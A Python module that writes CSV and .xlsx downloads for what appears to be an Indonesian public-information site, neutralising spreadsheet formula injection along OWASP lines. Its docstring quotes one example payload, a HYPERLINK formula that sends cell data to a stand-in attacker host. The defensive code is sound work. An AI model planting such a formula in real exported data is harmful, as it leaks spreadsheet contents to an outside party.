"""CSV and .xlsx files for spreadsheet programs: the one writer of every CSV and .xlsx download.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is run
as a formula by Excel, LibreOffice and Google Sheets: a title such as
`=HYPERLINK("https://evil.example/?"&A1;"klik")` in a public list would act in the reader's
spreadsheet. As OWASP recommends ("CSV Injection"), such a text cell gets a leading single
quote, which spreadsheets read as "this is text" and do not show. Numbers, and text that is
only a number ("-5", "+62"), are left as they are, so what a person reads does not change.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from datetime import date
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Border, Font, NamedStyle, PatternFill, Side
from openpyxl.utils import get_column_letter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet must show it, never as a formula it would run."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def csv_bytes(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> bytes:
    """UTF-8 with a byte order mark (so that Excel reads Indonesian text right), CRLF line
    ends, every cell neutralised."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n")
    for row in (header, *rows):
        writer.writerow([neutralise(cell) for cell in row])
    return out.getvalue().encode()


# --- .xlsx -----------------------------------------------------------------------------------

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DATE_FORMAT = "DD/MM/YYYY"


def _xlsx_cell(sheet, value: Any, style: str):
    """A write-only cell in one of the workbook's named styles; text that a spreadsheet would
    run as a formula is stored as a string cell with Excel's "quote prefix" (shown as typed,
    kept text when edited), never as a formula; characters XML cannot carry are dropped."""
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = WriteOnlyCell(sheet, value=value)
    # A named style is looked up once per workbook: setting fonts and borders cell by cell
    # costs openpyxl ten times the writing itself.
    cell.style = f"{style}_date" if isinstance(value, date) else style
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def _add_styles(workbook: Workbook) -> None:
    thin = Side(style="thin")
    box = Border(left=thin, right=thin, top=thin, bottom=thin)
    styles = {
        "ppid_title": {"font": Font(bold=True, size=12)},
        "ppid_header": {
            "font": Font(bold=True),
            "alignment": Alignment(wrap_text=True, vertical="center", horizontal="center"),
            "fill": PatternFill("solid", fgColor="DDE4EE"),
            "border": box,
        },
        "ppid_body": {"alignment": Alignment(wrap_text=True, vertical="top"), "border": box},
    }
    for name, attributes in styles.items():
        workbook.add_named_style(NamedStyle(name=name, **attributes))
        workbook.add_named_style(
            NamedStyle(name=f"{name}_date", number_format=DATE_FORMAT, **attributes)
        )


def xlsx_bytes(
    *,
    sheet_title: str,
    title_lines: Iterable[str],
    header: list[str],
    widths: list[int],
    rows: Iterable[Iterable[Any]],
) -> bytes:
    """One worksheet as officers print a list: title lines in bold above, a bold wrapped header
    row repeated on every printed page, set column widths, panes frozen below the header (and
    after the first column, the row number), wrapped text, landscape A4 fitting the width.
    Written in openpyxl's streaming mode, so that memory stays flat for long lists."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=sheet_title[:31])
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    title_lines = list(title_lines)
    header_row = len(title_lines) + 2 if title_lines else 1
    sheet.freeze_panes = f"B{header_row + 1}"
    sheet.print_title_rows = f"{header_row}:{header_row}"
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.paperSize = "9"  # A4
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0
    sheet.sheet_properties.pageSetUpPr.fitToPage = True

    _add_styles(workbook)
    for line in title_lines:
        sheet.append([_xlsx_cell(sheet, line, "ppid_title")])
    if title_lines:
        sheet.append([])
    sheet.append([_xlsx_cell(sheet, heading, "ppid_header") for heading in header])
    for row in rows:
        sheet.append([_xlsx_cell(sheet, value, "ppid_body") for value in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
